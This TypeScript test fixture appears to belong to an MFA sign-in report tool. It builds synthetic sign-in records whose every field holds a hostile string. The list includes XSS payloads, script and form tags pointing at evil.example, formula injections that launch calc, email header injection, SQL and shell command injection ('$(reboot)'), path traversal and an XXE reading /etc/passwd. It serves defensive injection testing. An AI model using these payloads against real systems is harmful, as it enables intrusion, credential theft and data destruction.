/**
 * Texts that want to be more than text, and a day of records that hold such a text wherever a record
 * has a place for one. `hidden`: nothing of it shows, so it is as if nothing were there.
 */
import type { Privacy, Report } from '../../src/core/report.ts';
import { guid } from '../build-sign-in.ts';
import { DAY } from './report-builder.ts';
import { failing, type RawRecord, rawRecord, reportOfRecords } from './report-of-records.ts';

export type HostileText = { readonly about: string; readonly text: string; readonly hidden?: true };

const of = (about: string, texts: readonly string[]): HostileText[] =>
  texts.map((text, index) => ({ about: texts.length === 1 ? about : `${about} ${index + 1}`, text }));

export const HOSTILE: readonly HostileText[] = [
  ...of('markup', [
    '<script>window.owned=1</script>',
    '</td></tr></table></body></html><script src=//evil.example/x.js></script>',
    '<img src=x onerror=window.owned=1>',
    '<svg/onload=window.owned=1>',
    '<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>',
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    '<style>*{display:none}</style>',
    '</style><style>@import "https://evil.example/x.css"',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=password></form>',
    '<a href="https://evil.example">Renew your password</a>',
    '<math><mtext></table><mglyph><style><img src=x onerror=window.owned=1>',
    '<noscript><p title="</noscript><img src=x onerror=window.owned=1>">',
    '<details open ontoggle=window.owned=1>',
    '<![CDATA[<b>]]>',
    '<!--',
    '--><!--[if mso]><b>',
    '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<plaintext>',
    '</title></head>',
  ]),
  ...of('an attribute', [
    '" onmouseover="window.owned=1',
    "' onfocus='window.owned=1' autofocus='",
    '` onclick=`window.owned=1`',
    '" style="position:fixed;inset:0;background:url(https://evil.example/x)',
    'x" id="verdict" class="sheet',
    '=\u0000"onload=window.owned=1//',
  ]),
  ...of('an address', [
    'javascript:window.owned=1',
    'JaVaScRiPt&colon;window.owned=1',
    'data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+',
    'vbscript:msgbox(1)',
    'https://evil.example/login?u=admin@contoso.example',
    'www.evil.example',
    'mailto:ceo@evil.example?subject=pay',
    '\\\\evil.example\\share\\x',
    'tel:+15550100',
  ]),
  ...of('entities', [
    '&lt;script&gt;window.owned=1&lt;/script&gt;',
    '&#60;b&#62;&#0;&#x22;',
    '&amp;amp;&nbsp;&quot;',
  ]),
  ...of('template braces', [
    '{{#each blocks}}{{this}}{{/each}}',
    '{{{constructor.constructor "return process"}}}',
    '{{> verdict}}{{&subject}}',
    '{{DATE(2026-11-23T09:00:00Z, SHORT)}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is what somebody may be called.
    '${process.env.GRAPH_TOKEN}',
    '<%= process.env %>',
    '#{7*7} *{7*7} @(7*7)',
  ]),
  ...of('a formula', [
    '=HYPERLINK("https://evil.example","x")',
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)*cmd|calc',
    "=cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\u200b=1+1',
    '＝1+1',
    ';=1+1',
    '"=1+1',
    '%0A=1+1',
    "'=1+1",
  ]),
  ...of('line breaks', [
    'name\r\nBcc: someone@evil.example\r\n\r\nbody',
    'name\nX-MFA-Digest-Severity: quiet',
    'name\r\n.\r\nMAIL FROM:<x@evil.example>',
    'name\u2028Bcc: x@evil.example\u2029',
    'name\u0085\u000b\u000cBcc: x@evil.example',
    'a,b;c\td|e\r\n"f""g"',
    '=?utf-8?B?QmNjOiB4QGV2aWwuZXhhbXBsZQ==?=',
  ]),
  ...of('direction and shape', [
    'invoice\u202egpj.exe',
    '\u2066admin\u2069\u2067nimda\u2069',
    'ad\u200bm\u200cin\u00ad\u2060\ufeff',
    'Z\u0351\u036b\u0343\u0368\u035ea\u0363\u0368\u0348l\u0358g\u0321o\u0344',
    '\u{e0041}\u{e0042}tags',
    'аdmin (with a Cyrillic а)',
    'ﷺﷺﷺ',
  ]),
  ...of('control characters', [
    'a\u0000b\u0001c\u001b[31mred\u001b[0m\u007f\u009b',
    '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  ]),
  ...of('half a pair', ['\ud800', 'a\udc00b']),
  ...of('length', [
    'W'.repeat(5_000),
    'word '.repeat(1_000),
    '<'.repeat(5_000),
    '字'.repeat(5_000),
    '😀'.repeat(2_500),
  ]),
  ...of('names of JavaScript', [
    '__proto__',
    'constructor',
    'toHTML',
    'toString',
    'hasOwnProperty',
    'undefined',
    'null',
    '[object Object]',
  ]),
  ...of('markdown', [
    '[Renew](https://evil.example) **now** _or_ ~never~ `x`',
    '![x](https://evil.example/x.png)',
    '<at>Everyone</at> @everyone @here',
    '# Heading',
    '1. first',
    '- first',
    '| a | b |\n|---|---|',
    '\\[x\\](https://evil.example)',
  ]),
  ...of('other tongues', [
    "'; DROP TABLE MfaDays; --",
    '$(reboot) `reboot` ; reboot',
    '../../etc/passwd',
    'a/b\\c#d?e',
    '%s%n%x',
    '7',
  ]),
  { about: 'a space', text: ' ', hidden: true },
  { about: 'nothing that shows', text: '\u200b\u2060\ufeff\u0000\u202e', hidden: true },
];

/** Where people, applications and devices can be called anything. */
const placesOf = (text: string): RawRecord => ({
  userDisplayName: text,
  userPrincipalName: text,
  signInIdentifier: text,
  appDisplayName: text,
  appId: text,
  resourceDisplayName: text,
  resourceId: text,
  ipAddress: text,
  userAgent: text,
  clientAppUsed: text,
  userType: text,
  correlationId: text,
  homeTenantName: text,
  servicePrincipalName: text,
  deviceDetail: { displayName: text, browser: text, operatingSystem: text, deviceId: text, trustType: text },
  location: { city: text, state: text, countryOrRegion: text },
  authenticationRequirementPolicies: [{ requirementProvider: text, detail: text }],
  appliedConditionalAccessPolicies: [{ id: text, displayName: text, result: text }],
  networkLocationDetails: [{ networkType: text, networkNames: [text] }],
  authenticationAppDeviceDetails: { deviceId: text, appVersion: text },
  mfaDetail: { authMethod: text, authDetail: text },
  sessionLifetimePolicies: [{ expirationRequirement: text, detail: text }],
});

/** Eight people who could not get in, one who was asked again and again, texts and methods that no table knows. */
function recordsHolding(text: string): RawRecord[] {
  const places = placesOf(text);
  const status = (code: number) => ({ errorCode: code, failureReason: text, additionalDetails: text });
  const stepped = (n: number, detail: string, succeeded: boolean): RawRecord => ({
    ...rawRecord({ n }),
    ...places,
    status: status(succeeded ? 0 : 500121),
    authenticationDetails: [
      {
        authenticationStepDateTime: `${DAY}T09:00:00Z`,
        authenticationMethod: text,
        authenticationMethodDetail: text,
        succeeded,
        authenticationStepResultDetail: detail,
        authenticationStepRequirement: text,
      },
    ],
  });
  const failed = Array.from({ length: 8 }, (_, n) =>
    rawRecord({
      n,
      ...failing('MFA denied; user did not respond to mobile app notification'),
      with: { ...places, correlationId: guid(0xf3, n) },
    }),
  );
  const asked = Array.from({ length: 12 }, (_, n) =>
    rawRecord({
      n: 100 + n,
      at: `${DAY}T03:${10 + n}:00Z`,
      user: 100,
      ...failing('MFA denied; user declined the authentication'),
      with: { ...places, correlationId: guid(0xf3, 100 + n), appId: 'c44b4083-3bb0-49c1-b47d-974e53cbdf3c' },
    }),
  );
  const approved = rawRecord({
    n: 120,
    at: `${DAY}T03:25:00Z`,
    user: 100,
    with: { ...places, correlationId: guid(0xf3, 120) },
  });
  return [
    ...failed,
    ...asked,
    approved,
    stepped(200, text, true),
    stepped(201, text, false),
    stepped(202, `MFA denied; ${text}`, false),
    { ...rawRecord({ n: 203, text: null }), ...places, status: status(9_999_999), authenticationDetails: [] },
    // A user without a name, in the list by number of attempts and not by what the id says.
    ...Array.from({ length: 2 }, (_, n) =>
      rawRecord({
        n: 204 + n,
        ...failing('MFA denied; user did not respond to mobile app notification'),
        with: { userId: text, userPrincipalName: null, correlationId: guid(0xf3, 204 + n) },
      }),
    ),
  ];
}

/** A day on which everything that can have a name is called so; noted by somebody called so, in a tenant called so. */
export function reportHolding(text: string, privacy: Privacy = 'named'): Report {
  return reportOfRecords({
    records: recordsHolding(text),
    privacy,
    tenantName: printable(text),
    acks: [{ reason: 'declined', until: '2026-12-01', by: printable(text), note: printable(text) }],
  });
}

/** Settings and notes are the operator's, and no record's: hostile they may look, but they come from a keyboard. */
function printable(text: string): string {
  return text
    .replace(/[\p{C}\p{Zl}\p{Zp}]/gu, '')
    .trim()
    .slice(0, 200);
}

/** The same with a text of nobody's concern; where nothing of the hostile one shows, with none. */
export function benignLike({ hidden }: HostileText, privacy: Privacy = 'named'): Report {
  return reportHolding(hidden ? '' : 'Plain', privacy);
}
